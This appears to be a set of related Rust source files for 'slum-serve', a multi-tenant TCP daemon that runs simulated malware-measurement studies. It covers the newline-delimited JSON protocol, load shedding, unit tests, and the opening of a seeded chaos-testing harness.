        let (service, root) = scratch_service("shed");
        let mut daemon = Daemon::start_with(
            service,
            "127.0.0.1:0",
            DaemonOptions { max_connections: 1, ..DaemonOptions::default() },
        )
        .expect("daemon");

        // First client occupies the single slot (a roundtrip proves
        // its handler is live, not just queued).
        let first = TcpStream::connect(daemon.addr()).expect("connect");
        let mut first_writer = first.try_clone().expect("clone");
        let mut first_reader = BufReader::new(first);
        let ping = roundtrip(&mut first_reader, &mut first_writer, r#"{"op":"stream-metrics"}"#);
        assert!(ping.ok);

        // Second client is shed with one overloaded line.
        let second = TcpStream::connect(daemon.addr()).expect("connect");
        let mut second_reader = BufReader::new(second);
        let mut reply = String::new();
        second_reader.read_line(&mut reply).expect("read shed line");
        let shed: Response = serde_json::from_str(reply.trim()).expect("parses");
        assert!(!shed.ok);
        assert_eq!(shed.error.as_deref(), Some("overloaded"));
        assert!(shed.retry_after_ms.is_some());

        let metrics = roundtrip(&mut first_reader, &mut first_writer, r#"{"op":"stream-metrics"}"#);
        let snapshot = slum_obs::MetricsSnapshot::from_json(&metrics.metrics.expect("payload"))
            .expect("metrics parse");
        assert!(snapshot.counter("serve.shed.connections") >= 1);
        daemon.shutdown();
        std::fs::remove_dir_all(&root).ok();
    }
}
