//! The thin TCP front end: newline-delimited JSON over a socket, one
//! request per line, one response per line, with a background scheduler
//! thread cooperatively advancing every submitted study.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use crate::proto::{Request, Response};
use crate::service::{ServeError, Service};

/// How long the accept loop and the scheduler sleep when idle.
const IDLE_POLL: Duration = Duration::from_millis(5);

/// A running daemon: a [`Service`] behind a TCP listener.
///
/// The daemon owns two kinds of threads: one scheduler thread that
/// round-robins [`Service::step`] while any study is running, and one
/// short-lived thread per accepted connection. `shutdown` requests (or
/// [`Daemon::shutdown`]) stop the accept loop; the scheduler drains the
/// in-flight studies before joining so no tenant's study is abandoned
/// mid-slice.
pub struct Daemon {
    service: Arc<Service>,
    addr: std::net::SocketAddr,
    stop: Arc<AtomicBool>,
    accept_thread: Option<std::thread::JoinHandle<()>>,
    scheduler_thread: Option<std::thread::JoinHandle<()>>,
}

impl Daemon {
    /// Binds `addr` (use port 0 for an ephemeral port) and starts the
    /// accept and scheduler threads.
    ///
    /// # Errors
    ///
    /// Propagates bind failures.
    pub fn start(service: Service, addr: &str) -> Result<Daemon, ServeError> {
        let listener = TcpListener::bind(addr)?;
        let addr = listener.local_addr()?;
        listener.set_nonblocking(true)?;
        let service = Arc::new(service);
        let stop = Arc::new(AtomicBool::new(false));

        let accept_service = Arc::clone(&service);
        let accept_stop = Arc::clone(&stop);
        let accept_thread = std::thread::spawn(move || {
            accept_loop(&listener, &accept_service, &accept_stop);
        });

        let sched_service = Arc::clone(&service);
        let sched_stop = Arc::clone(&stop);
        let scheduler_thread = std::thread::spawn(move || {
            scheduler_loop(&sched_service, &sched_stop);
        });

        Ok(Daemon {
            service,
            addr,
            stop,
            accept_thread: Some(accept_thread),
            scheduler_thread: Some(scheduler_thread),
        })
    }

    /// The bound socket address (resolves port 0).
    pub fn addr(&self) -> std::net::SocketAddr {
        self.addr
    }

    /// The service behind the listener, for in-process inspection.
    pub fn service(&self) -> &Arc<Service> {
        &self.service
    }

    /// Signals the accept loop and scheduler to stop, then joins them.
    /// The scheduler finishes the current scheduling pass, so studies
    /// stop at a checkpoint boundary and resume cleanly on the next
    /// daemon over the same root.
    pub fn shutdown(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.accept_thread.take() {
            let _ = t.join();
        }
        if let Some(t) = self.scheduler_thread.take() {
            let _ = t.join();
        }
    }

    /// Blocks until a `shutdown` request (or [`Daemon::shutdown`] from
    /// another thread) stops the daemon.
    pub fn wait(&mut self) {
        while !self.stop.load(Ordering::SeqCst) {
            std::thread::sleep(IDLE_POLL);
        }
        self.shutdown();
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        self.shutdown();
    }
}

fn accept_loop(listener: &TcpListener, service: &Arc<Service>, stop: &Arc<AtomicBool>) {
    let mut handlers: Vec<std::thread::JoinHandle<()>> = Vec::new();
    while !stop.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _)) => {
                let service = Arc::clone(service);
                let stop = Arc::clone(stop);
                handlers.push(std::thread::spawn(move || {
                    serve_connection(stream, &service, &stop);
                }));
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(IDLE_POLL);
            }
            Err(_) => break,
        }
        handlers.retain(|h| !h.is_finished());
    }
    for h in handlers {
        let _ = h.join();
    }
}

fn scheduler_loop(service: &Arc<Service>, stop: &Arc<AtomicBool>) {
    while !stop.load(Ordering::SeqCst) {
        match service.step() {
            Ok(0) => std::thread::sleep(IDLE_POLL),
            Ok(_) => {}
            Err(_) => std::thread::sleep(IDLE_POLL),
        }
    }
}

fn serve_connection(stream: TcpStream, service: &Arc<Service>, stop: &Arc<AtomicBool>) {
    let mut writer = match stream.try_clone() {
        Ok(w) => w,
        Err(_) => return,
    };
    let reader = BufReader::new(stream);
    for line in reader.lines() {
        let Ok(line) = line else { return };
        if line.trim().is_empty() {
            continue;
        }
        let response = match serde_json::from_str::<Request>(&line) {
            Ok(req) => {
                let response = service.handle(&req);
                if req.op == "shutdown" {
                    stop.store(true, Ordering::SeqCst);
                }
                response
            }
            Err(e) => Response::failure("parse", format!("bad request line: {e}")),
        };
        let Ok(encoded) = serde_json::to_string(&response) else { return };
        if writeln!(writer, "{encoded}").is_err() || writer.flush().is_err() {
            return;
        }
        if stop.load(Ordering::SeqCst) {
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(
        reader: &mut BufReader<TcpStream>,
        writer: &mut TcpStream,
        line: &str,
    ) -> Response {
        writeln!(writer, "{line}").expect("write request");
        writer.flush().expect("flush request");
        let mut reply = String::new();
        reader.read_line(&mut reply).expect("read response");
        serde_json::from_str(reply.trim()).expect("response parses")
    }

    #[test]
    fn daemon_serves_a_tiny_study_over_tcp() {
        let root = std::env::temp_dir()
            .join(format!("slum-daemon-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let service = Service::open(&root).expect("service root");
        let mut daemon = Daemon::start(service, "127.0.0.1:0").expect("daemon");

        let stream = TcpStream::connect(daemon.addr()).expect("connect");
        let mut writer = stream.try_clone().expect("clone stream");
        let mut reader = BufReader::new(stream);

        let submit = roundtrip(
            &mut reader,
            &mut writer,
            r#"{"op":"submit-study","tenant":"smoke","crawl_scale":0.0002,"domain_scale":0.03,"checkpoint_every":7}"#,
        );
        assert!(submit.ok, "submit failed: {:?}", submit.error);
        let id = submit.study.expect("study id");

        let done = loop {
            let status = roundtrip(
                &mut reader,
                &mut writer,
                &format!(r#"{{"op":"study-status","study":{id}}}"#),
            );
            assert!(status.ok, "status failed: {:?}", status.error);
            match status.state.as_deref() {
                Some("done") => break status,
                Some("failed") => panic!("study failed: {:?}", status.error),
                _ => std::thread::sleep(std::time::Duration::from_millis(10)),
            }
        };
        assert!(done.digest.is_some(), "done study reports a digest");

        let metrics = roundtrip(&mut reader, &mut writer, r#"{"op":"stream-metrics"}"#);
        let metrics_json = metrics.metrics.expect("metrics payload");
        let snapshot =
            slum_obs::MetricsSnapshot::from_json(&metrics_json).expect("metrics parse");
        assert!(snapshot.counter("serve.studies.completed") >= 1);
        assert!(snapshot.counter("tenant.smoke.crawl.pages") > 0);

        let bye = roundtrip(&mut reader, &mut writer, r#"{"op":"shutdown"}"#);
        assert!(bye.ok);
        daemon.wait();
        std::fs::remove_dir_all(&root).ok();
    }
}
