//! # slum-serve
//!
//! A resident multi-tenant study service on top of the checkpoint
//! scheduler.
//!
//! Batch `repro` answers one question and exits; a measurement group
//! running the Malware Slums methodology continuously wants the
//! opposite shape: a long-lived process that accepts study submissions
//! from several tenants, advances them *concurrently* on shared
//! hardware, and answers verdict queries out of caches warmed by
//! whichever tenant scanned a URL first.
//!
//! This crate provides that in two layers:
//!
//! - [`Service`] — the in-process API: submit studies, advance them
//!   cooperatively (each scheduling slice runs a bounded number of
//!   checkpoint rounds through `Study::advance_checkpointed`), query
//!   verdicts against the shared cross-tenant index, and stream a
//!   namespaced per-tenant metrics rollup.
//! - [`Daemon`] — a thin TCP front end speaking newline-delimited JSON
//!   ([`Request`] in, [`Response`] out), with a background scheduler
//!   thread driving the service.
//!
//! ## Cache sharing
//!
//! Verdicts and features are pure functions of the deterministic web
//! and the scan key, so studies whose configs agree on the web
//! fingerprint (seed, scales, substrate, JS engine — see
//! `StudyConfig::cache_fingerprint`) share one `ScanCaches` set: a URL
//! scanned for tenant A is a cache hit for tenant B. Sharing is
//! artifact-invisible — only `scan.cache.*` / `js.vm.*` *metrics*
//! observe it; export JSON is bit-identical with or without sharing,
//! pinned by `tests/serve_determinism.rs`.
//!
//! ## Protocol
//!
//! ```json
//! > {"op":"submit-study","tenant":"alpha","crawl_scale":0.0002,"substrate":"adnet"}
//! < {"ok":true,"op":"submit-study","study":1,"tenant":"alpha"}
//! > {"op":"study-status","study":1}
//! < {"ok":true,"op":"study-status","study":1,"state":"done","digest":"…"}
//! > {"op":"query-verdict","study":1,"url":"http://malslum-00042.example/"}
//! < {"ok":true,"op":"query-verdict","known":true,"malicious":false}
//! > {"op":"stream-metrics"}
//! < {"ok":true,"op":"stream-metrics","metrics":"{…}"}
//! > {"op":"shutdown"}
//! < {"ok":true,"op":"shutdown"}
//! ```
//!
//! ## Resilience
//!
//! The service is built to survive its tenants and its disks:
//! panicking studies are contained to a `poisoned` state by slice
//! supervision, runaway studies stall at a slice budget, request
//! floods shed with `overloaded` + `retry_after_ms` (per-tenant
//! in-flight caps, a daemon-wide connection cap), and checkpoint
//! storage faults (injectable via [`malware_slums::DiskFaultProfile`])
//! cost at most one slice of recrawl thanks to checkpoint generations
//! with quarantine/rollback. The seeded storm harness lives in
//! [`chaos`]; `tests/serve_chaos.rs` and `repro chaos` both drive it
//! to pin the headline guarantee: under a storm of kills, corruptions,
//! disk faults and tenant panics, every surviving tenant's export is
//! bit-identical to a fault-free run.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod chaos;
pub mod daemon;
pub mod proto;
pub mod service;

pub use daemon::{Daemon, DaemonOptions};
pub use proto::{
    parse_request, ProtoError, Request, Response, DEFAULT_CHECKPOINT_EVERY, MAX_REQUEST_LINE,
};
pub use service::{ServeError, Service, StudyStatus, DEFAULT_ROUNDS_PER_SLICE};
