//! The newline-delimited JSON protocol: one request object per line in,
//! one response object per line out.
//!
//! Requests are a single flat struct — the `op` field selects the
//! operation, every other field is optional with a sensible default
//! (`#[serde(default)]` / `#[serde(default = "...")]` on the vendored
//! derive), so a submit line only needs to name what differs from the
//! stock study configuration:
//!
//! ```json
//! {"op":"submit-study","tenant":"alpha","crawl_scale":0.0002,"substrate":"adnet"}
//! {"op":"study-status","study":1}
//! {"op":"query-verdict","study":1,"url":"http://example.com/"}
//! {"op":"stream-metrics"}
//! {"op":"shutdown"}
//! ```

use malware_slums::StudyConfig;
use serde::{Deserialize, Serialize};
use slum_crawler::CrawlFaultProfile;
use slum_detect::fault::FaultProfile;

/// Default checkpoint cadence for daemon-submitted studies (surf slots
/// per exchange between checkpoints — also the scheduler's preemption
/// grain).
pub const DEFAULT_CHECKPOINT_EVERY: u64 = 256;

fn default_tenant() -> String {
    "default".to_string()
}

fn default_seed() -> u64 {
    StudyConfig::default().seed
}

fn default_crawl_scale() -> f64 {
    StudyConfig::default().crawl_scale
}

fn default_domain_scale() -> f64 {
    StudyConfig::default().domain_scale
}

fn default_substrate() -> String {
    StudyConfig::default().substrate.name().to_string()
}

fn default_js_engine() -> String {
    StudyConfig::default().js_engine.name().to_string()
}

fn default_checkpoint_every() -> u64 {
    DEFAULT_CHECKPOINT_EVERY
}

fn default_profile() -> String {
    "none".to_string()
}

/// One protocol request. Fields irrelevant to the selected `op` are
/// ignored.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Request {
    /// Operation: `submit-study`, `study-status`, `query-verdict`,
    /// `stream-metrics` or `shutdown`.
    pub op: String,
    /// Tenant the operation acts for.
    #[serde(default = "default_tenant")]
    pub tenant: String,
    /// Study id (`study-status`, `query-verdict`).
    pub study: Option<u64>,
    /// URL to look up (`query-verdict`).
    pub url: Option<String>,
    /// Master seed (`submit-study`).
    #[serde(default = "default_seed")]
    pub seed: u64,
    /// Crawl scale fraction (`submit-study`).
    #[serde(default = "default_crawl_scale")]
    pub crawl_scale: f64,
    /// Domain scale fraction (`submit-study`).
    #[serde(default = "default_domain_scale")]
    pub domain_scale: f64,
    /// Traffic substrate name (`submit-study`).
    #[serde(default = "default_substrate")]
    pub substrate: String,
    /// JS engine name (`submit-study`).
    #[serde(default = "default_js_engine")]
    pub js_engine: String,
    /// Checkpoint cadence in surf slots (`submit-study`).
    #[serde(default = "default_checkpoint_every")]
    pub checkpoint_every: u64,
    /// Scan workers; 0 means the library default (`submit-study`).
    #[serde(default)]
    pub scan_workers: usize,
    /// Scan-fault profile name (`submit-study`).
    #[serde(default = "default_profile")]
    pub fault_profile: String,
    /// Crawl-fault profile name (`submit-study`).
    #[serde(default = "default_profile")]
    pub crawl_fault_profile: String,
    /// Include the full export JSON in a `study-status` response.
    #[serde(default)]
    pub include_export: bool,
}

impl Request {
    /// A request skeleton for `op` with every other field defaulted.
    pub fn new(op: &str) -> Request {
        let line = format!("{{\"op\":{:?}}}", op);
        serde_json::from_str(&line).expect("op-only request parses")
    }

    /// Builds the study configuration a `submit-study` request asks
    /// for.
    ///
    /// # Errors
    ///
    /// Returns a human-readable message for unknown names or invalid
    /// values (this is the protocol boundary — errors go back over the
    /// wire as strings).
    pub fn study_config(&self) -> Result<StudyConfig, String> {
        let mut b = StudyConfig::builder()
            .seed(self.seed)
            .crawl_scale(self.crawl_scale)
            .domain_scale(self.domain_scale)
            .checkpoint_every(self.checkpoint_every)
            .js_engine_name(&self.js_engine)
            .map_err(|e| e.to_string())?
            .substrate_name(&self.substrate)
            .map_err(|e| e.to_string())?;
        if self.scan_workers > 0 {
            b = b.scan_workers(self.scan_workers);
        }
        let scan_fault = FaultProfile::parse(&self.fault_profile)
            .ok_or_else(|| format!("unknown fault profile `{}`", self.fault_profile))?;
        let crawl_fault = CrawlFaultProfile::parse(&self.crawl_fault_profile).ok_or_else(
            || format!("unknown crawl fault profile `{}`", self.crawl_fault_profile),
        )?;
        b.fault_profile(scan_fault)
            .crawl_fault_profile(crawl_fault)
            .build()
            .map_err(|e| e.to_string())
    }
}

/// One protocol response. `ok` is the success flag; `error` carries the
/// failure message when `ok` is false. Every other field is populated
/// only when the operation produces it.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Response {
    /// Success flag.
    pub ok: bool,
    /// Echo of the request's `op`.
    pub op: String,
    /// Failure message when `ok` is false.
    pub error: Option<String>,
    /// Study id (submit/status/verdict).
    pub study: Option<u64>,
    /// Tenant the study belongs to.
    pub tenant: Option<String>,
    /// Study state: `running`, `done` or `failed`.
    pub state: Option<String>,
    /// Scheduling slices executed so far.
    pub slices: Option<u64>,
    /// FNV-1a digest of the export JSON (done studies).
    pub digest: Option<String>,
    /// Crawled records (done studies).
    pub records: Option<u64>,
    /// Malicious regular records (done studies).
    pub malicious_regular: Option<u64>,
    /// A canonical URL the study scanned — a guaranteed-known probe
    /// for `query-verdict` (done studies).
    pub sample_url: Option<String>,
    /// Whether the queried URL has a cached verdict.
    pub known: Option<bool>,
    /// The cached verdict, when known.
    pub malicious: Option<bool>,
    /// Full export JSON (status with `include_export`).
    pub export: Option<String>,
    /// Metrics snapshot JSON (`stream-metrics`).
    pub metrics: Option<String>,
}

impl Response {
    /// A failure response for `op`.
    pub fn failure(op: &str, error: impl std::fmt::Display) -> Response {
        Response {
            ok: false,
            op: op.to_string(),
            error: Some(error.to_string()),
            ..Response::default()
        }
    }

    /// A success skeleton for `op`.
    pub fn success(op: &str) -> Response {
        Response { ok: true, op: op.to_string(), ..Response::default() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sparse_submit_line_fills_defaults() {
        let req: Request =
            serde_json::from_str(r#"{"op":"submit-study","crawl_scale":0.0002}"#)
                .expect("parses");
        assert_eq!(req.op, "submit-study");
        assert_eq!(req.tenant, "default");
        assert_eq!(req.seed, StudyConfig::default().seed);
        assert_eq!(req.crawl_scale, 0.0002);
        assert_eq!(req.substrate, "exchange");
        assert_eq!(req.checkpoint_every, DEFAULT_CHECKPOINT_EVERY);
        assert!(!req.include_export);
        let config = req.study_config().expect("valid config");
        assert_eq!(config.checkpoint_every, Some(DEFAULT_CHECKPOINT_EVERY));
    }

    #[test]
    fn bad_names_are_rejected() {
        let mut req = Request::new("submit-study");
        req.substrate = "blogosphere".to_string();
        assert!(req.study_config().is_err());
        let mut req = Request::new("submit-study");
        req.fault_profile = "catastrophic".to_string();
        assert!(req.study_config().is_err());
    }

    #[test]
    fn response_round_trips_one_line() {
        let mut r = Response::success("study-status");
        r.study = Some(3);
        r.state = Some("done".to_string());
        let line = serde_json::to_string(&r).expect("serializes");
        assert!(!line.contains('\n'), "must stay newline-delimited");
        let back: Response = serde_json::from_str(&line).expect("parses");
        assert_eq!(back.study, Some(3));
        assert_eq!(back.state.as_deref(), Some("done"));
    }
}
