//! The newline-delimited JSON protocol: one request object per line in,
//! one response object per line out.
//!
//! Requests are a single flat struct — the `op` field selects the
//! operation, every other field is optional with a sensible default
//! (`#[serde(default)]` / `#[serde(default = "...")]` on the vendored
//! derive), so a submit line only needs to name what differs from the
//! stock study configuration:
//!
//! ```json
//! {"op":"submit-study","tenant":"alpha","crawl_scale":0.0002,"substrate":"adnet"}
//! {"op":"study-status","study":1}
//! {"op":"query-verdict","study":1,"url":"http://example.com/"}
//! {"op":"stream-metrics"}
//! {"op":"shutdown"}
//! ```

use malware_slums::{DiskFaultProfile, StudyConfig};
use serde::{Deserialize, Serialize};
use slum_crawler::CrawlFaultProfile;
use slum_detect::fault::FaultProfile;

/// Default checkpoint cadence for daemon-submitted studies (surf slots
/// per exchange between checkpoints — also the scheduler's preemption
/// grain).
pub const DEFAULT_CHECKPOINT_EVERY: u64 = 256;

/// Hard cap on a single request line in bytes. Longer lines are
/// rejected with [`ProtoError::RequestTooLarge`] before any JSON
/// parsing happens — a client cannot make the daemon buffer an
/// unbounded line.
pub const MAX_REQUEST_LINE: usize = 64 * 1024;

/// A typed parse failure at the protocol boundary. Every byte sequence
/// a client sends maps to either a [`Request`] or one of these — never
/// a panic, never an unbounded buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProtoError {
    /// The request line exceeded [`MAX_REQUEST_LINE`] bytes.
    RequestTooLarge {
        /// Bytes received (may be a lower bound if the reader stopped
        /// buffering early).
        len: usize,
        /// The enforced cap.
        max: usize,
    },
    /// The line was not a valid request object (bad UTF-8 handled by
    /// the transport; bad JSON or a non-object lands here).
    Malformed(String),
}

impl std::fmt::Display for ProtoError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ProtoError::RequestTooLarge { len, max } => {
                write!(f, "request line too large: {len} bytes exceeds the {max}-byte cap")
            }
            ProtoError::Malformed(msg) => write!(f, "malformed request: {msg}"),
        }
    }
}

impl std::error::Error for ProtoError {}

/// Parses one request line, enforcing the [`MAX_REQUEST_LINE`] cap
/// before touching the JSON parser.
///
/// # Errors
///
/// [`ProtoError::RequestTooLarge`] for oversized lines,
/// [`ProtoError::Malformed`] for anything that is not a request object.
pub fn parse_request(line: &str) -> Result<Request, ProtoError> {
    if line.len() > MAX_REQUEST_LINE {
        return Err(ProtoError::RequestTooLarge { len: line.len(), max: MAX_REQUEST_LINE });
    }
    serde_json::from_str(line).map_err(|e| ProtoError::Malformed(e.to_string()))
}

fn default_tenant() -> String {
    "default".to_string()
}

fn default_seed() -> u64 {
    StudyConfig::default().seed
}

fn default_crawl_scale() -> f64 {
    StudyConfig::default().crawl_scale
}

fn default_domain_scale() -> f64 {
    StudyConfig::default().domain_scale
}

fn default_substrate() -> String {
    StudyConfig::default().substrate.name().to_string()
}

fn default_js_engine() -> String {
    StudyConfig::default().js_engine.name().to_string()
}

fn default_checkpoint_every() -> u64 {
    DEFAULT_CHECKPOINT_EVERY
}

fn default_profile() -> String {
    "none".to_string()
}

/// One protocol request. Fields irrelevant to the selected `op` are
/// ignored.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Request {
    /// Operation: `submit-study`, `study-status`, `query-verdict`,
    /// `stream-metrics` or `shutdown`.
    pub op: String,
    /// Tenant the operation acts for.
    #[serde(default = "default_tenant")]
    pub tenant: String,
    /// Study id (`study-status`, `query-verdict`).
    pub study: Option<u64>,
    /// URL to look up (`query-verdict`).
    pub url: Option<String>,
    /// Master seed (`submit-study`).
    #[serde(default = "default_seed")]
    pub seed: u64,
    /// Crawl scale fraction (`submit-study`).
    #[serde(default = "default_crawl_scale")]
    pub crawl_scale: f64,
    /// Domain scale fraction (`submit-study`).
    #[serde(default = "default_domain_scale")]
    pub domain_scale: f64,
    /// Traffic substrate name (`submit-study`).
    #[serde(default = "default_substrate")]
    pub substrate: String,
    /// JS engine name (`submit-study`).
    #[serde(default = "default_js_engine")]
    pub js_engine: String,
    /// Checkpoint cadence in surf slots (`submit-study`).
    #[serde(default = "default_checkpoint_every")]
    pub checkpoint_every: u64,
    /// Scan workers; 0 means the library default (`submit-study`).
    #[serde(default)]
    pub scan_workers: usize,
    /// Scan-fault profile name (`submit-study`).
    #[serde(default = "default_profile")]
    pub fault_profile: String,
    /// Crawl-fault profile name (`submit-study`).
    #[serde(default = "default_profile")]
    pub crawl_fault_profile: String,
    /// Disk-fault profile name for checkpoint storage (`submit-study`).
    /// The default (`none`) injects nothing; artifacts are identical
    /// under every profile — faults only exercise recovery.
    #[serde(default = "default_profile")]
    pub disk_fault_profile: String,
    /// Include the full export JSON in a `study-status` response.
    #[serde(default)]
    pub include_export: bool,
}

impl Request {
    /// A request skeleton for `op` with every other field defaulted.
    pub fn new(op: &str) -> Request {
        let line = format!("{{\"op\":{:?}}}", op);
        serde_json::from_str(&line).expect("op-only request parses")
    }

    /// Builds the study configuration a `submit-study` request asks
    /// for.
    ///
    /// # Errors
    ///
    /// Returns a human-readable message for unknown names or invalid
    /// values (this is the protocol boundary — errors go back over the
    /// wire as strings).
    pub fn study_config(&self) -> Result<StudyConfig, String> {
        let mut b = StudyConfig::builder()
            .seed(self.seed)
            .crawl_scale(self.crawl_scale)
            .domain_scale(self.domain_scale)
            .checkpoint_every(self.checkpoint_every)
            .js_engine_name(&self.js_engine)
            .map_err(|e| e.to_string())?
            .substrate_name(&self.substrate)
            .map_err(|e| e.to_string())?;
        if self.scan_workers > 0 {
            b = b.scan_workers(self.scan_workers);
        }
        let scan_fault = FaultProfile::parse(&self.fault_profile)
            .ok_or_else(|| format!("unknown fault profile `{}`", self.fault_profile))?;
        let crawl_fault = CrawlFaultProfile::parse(&self.crawl_fault_profile).ok_or_else(
            || format!("unknown crawl fault profile `{}`", self.crawl_fault_profile),
        )?;
        let disk_fault = DiskFaultProfile::parse(&self.disk_fault_profile).ok_or_else(
            || format!("unknown disk fault profile `{}`", self.disk_fault_profile),
        )?;
        b.fault_profile(scan_fault)
            .crawl_fault_profile(crawl_fault)
            .disk_fault_profile(disk_fault)
            .build()
            .map_err(|e| e.to_string())
    }
}

/// One protocol response. `ok` is the success flag; `error` carries the
/// failure message when `ok` is false. Every other field is populated
/// only when the operation produces it.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Response {
    /// Success flag.
    pub ok: bool,
    /// Echo of the request's `op`.
    pub op: String,
    /// Failure message when `ok` is false.
    pub error: Option<String>,
    /// Study id (submit/status/verdict).
    pub study: Option<u64>,
    /// Tenant the study belongs to.
    pub tenant: Option<String>,
    /// Study state: `running`, `done` or `failed`.
    pub state: Option<String>,
    /// Scheduling slices executed so far.
    pub slices: Option<u64>,
    /// FNV-1a digest of the export JSON (done studies).
    pub digest: Option<String>,
    /// Crawled records (done studies).
    pub records: Option<u64>,
    /// Malicious regular records (done studies).
    pub malicious_regular: Option<u64>,
    /// A canonical URL the study scanned — a guaranteed-known probe
    /// for `query-verdict` (done studies).
    pub sample_url: Option<String>,
    /// Whether the queried URL has a cached verdict.
    pub known: Option<bool>,
    /// The cached verdict, when known.
    pub malicious: Option<bool>,
    /// Full export JSON (status with `include_export`).
    pub export: Option<String>,
    /// Metrics snapshot JSON (`stream-metrics`).
    pub metrics: Option<String>,
    /// Suggested client back-off when the daemon sheds the request
    /// (`error` = `overloaded`).
    pub retry_after_ms: Option<u64>,
}

impl Response {
    /// A failure response for `op`.
    pub fn failure(op: &str, error: impl std::fmt::Display) -> Response {
        Response {
            ok: false,
            op: op.to_string(),
            error: Some(error.to_string()),
            ..Response::default()
        }
    }

    /// A success skeleton for `op`.
    pub fn success(op: &str) -> Response {
        Response { ok: true, op: op.to_string(), ..Response::default() }
    }

    /// The load-shedding response: the daemon is over capacity for this
    /// tenant or connection; the client should back off `retry_after_ms`
    /// and retry. `error` is always the literal `"overloaded"` so
    /// clients can match on it.
    pub fn overloaded(op: &str, retry_after_ms: u64) -> Response {
        Response {
            ok: false,
            op: op.to_string(),
            error: Some("overloaded".to_string()),
            retry_after_ms: Some(retry_after_ms),
            ..Response::default()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sparse_submit_line_fills_defaults() {
        let req: Request =
            serde_json::from_str(r#"{"op":"submit-study","crawl_scale":0.0002}"#)
                .expect("parses");
        assert_eq!(req.op, "submit-study");
        assert_eq!(req.tenant, "default");
        assert_eq!(req.seed, StudyConfig::default().seed);
        assert_eq!(req.crawl_scale, 0.0002);
        assert_eq!(req.substrate, "exchange");
        assert_eq!(req.checkpoint_every, DEFAULT_CHECKPOINT_EVERY);
        assert!(!req.include_export);
        let config = req.study_config().expect("valid config");
        assert_eq!(config.checkpoint_every, Some(DEFAULT_CHECKPOINT_EVERY));
    }

    #[test]
    fn bad_names_are_rejected() {
        let mut req = Request::new("submit-study");
        req.substrate = "blogosphere".to_string();
        assert!(req.study_config().is_err());
        let mut req = Request::new("submit-study");
        req.fault_profile = "catastrophic".to_string();
        assert!(req.study_config().is_err());
    }

    #[test]
    fn parse_request_caps_line_length() {
        let huge = format!("{{\"op\":\"submit-study\",\"tenant\":\"{}\"}}", "x".repeat(MAX_REQUEST_LINE));
        match parse_request(&huge) {
            Err(ProtoError::RequestTooLarge { len, max }) => {
                assert_eq!(len, huge.len());
                assert_eq!(max, MAX_REQUEST_LINE);
            }
            other => panic!("expected RequestTooLarge, got {other:?}"),
        }
        assert!(parse_request("{\"op\":\"shutdown\"}").is_ok());
    }

    #[test]
    fn parse_request_rejects_garbage_with_typed_errors() {
        for junk in ["", "{", "[]", "42", "\"op\"", "{\"op\":3}", "{\"op\":\"x\",\"seed\":\"n\"}"] {
            match parse_request(junk) {
                Err(ProtoError::Malformed(_)) => {}
                other => panic!("{junk:?}: expected Malformed, got {other:?}"),
            }
        }
    }

    #[test]
    fn disk_fault_profile_flows_into_the_config() {
        let req: Request = serde_json::from_str(
            r#"{"op":"submit-study","crawl_scale":0.0002,"disk_fault_profile":"harsh"}"#,
        )
        .expect("parses");
        let config = req.study_config().expect("valid config");
        assert_eq!(config.disk_fault_profile.name, "harsh");
        let mut bad = Request::new("submit-study");
        bad.disk_fault_profile = "meteor-strike".to_string();
        assert!(bad.study_config().is_err());
    }

    #[test]
    fn overloaded_response_carries_retry_after() {
        let r = Response::overloaded("submit-study", 25);
        assert!(!r.ok);
        assert_eq!(r.error.as_deref(), Some("overloaded"));
        assert_eq!(r.retry_after_ms, Some(25));
        let line = serde_json::to_string(&r).expect("serializes");
        let back: Response = serde_json::from_str(&line).expect("parses");
        assert_eq!(back.retry_after_ms, Some(25));
    }

    #[test]
    fn response_round_trips_one_line() {
        let mut r = Response::success("study-status");
        r.study = Some(3);
        r.state = Some("done".to_string());
        let line = serde_json::to_string(&r).expect("serializes");
        assert!(!line.contains('\n'), "must stay newline-delimited");
        let back: Response = serde_json::from_str(&line).expect("parses");
        assert_eq!(back.study, Some(3));
        assert_eq!(back.state.as_deref(), Some("done"));
    }
}
