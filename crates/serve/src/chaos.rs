//! The seeded chaos harness behind `tests/serve_chaos.rs` and
//! `repro chaos`: one storm throws daemon kills, checkpoint
//! corruption, injected storage faults and tenant panics at a
//! multi-tenant [`Service`], then lets the weather clear and drains
//! every tenant to completion.
//!
//! One xorshift RNG drives the whole schedule, so a failure reproduces
//! exactly from its [`StormConfig::chaos_seed`]. Forced events
//! guarantee each fault class fires at least once even on schedules
//! that would otherwise converge early. The harness *panics* when a
//! containment invariant breaks (an uncontained tenant panic, a tenant
//! that never drains, a corruption that was read instead of
//! quarantined) — a chaos run whose invariants fail must be loud, not
//! a `Result` a caller might shrug off.
//!
//! What the harness deliberately does **not** check is artifact
//! equality: it returns every survivor's export in
//! [`StormReport::exports`] and leaves the bit-identical-to-batch
//! comparison to its callers, who own the fault-free reference runs.

use std::path::{Path, PathBuf};

use malware_slums::study::StudyConfig;
use malware_slums::DiskFaultProfile;

use crate::Service;

/// One storm's shape: how many tenants, how hard the weather, how many
/// actions before it clears.
#[derive(Debug, Clone)]
pub struct StormConfig {
    /// Seed of the xorshift RNG driving the whole action schedule.
    pub chaos_seed: u64,
    /// Fault actions thrown in the storm phase before the drain.
    pub actions: u32,
    /// Tenant count; tenant `t` is named `t{t}`.
    pub tenants: usize,
    /// Base study seed; tenant `t` runs a study seeded `study_seed + t`.
    pub study_seed: u64,
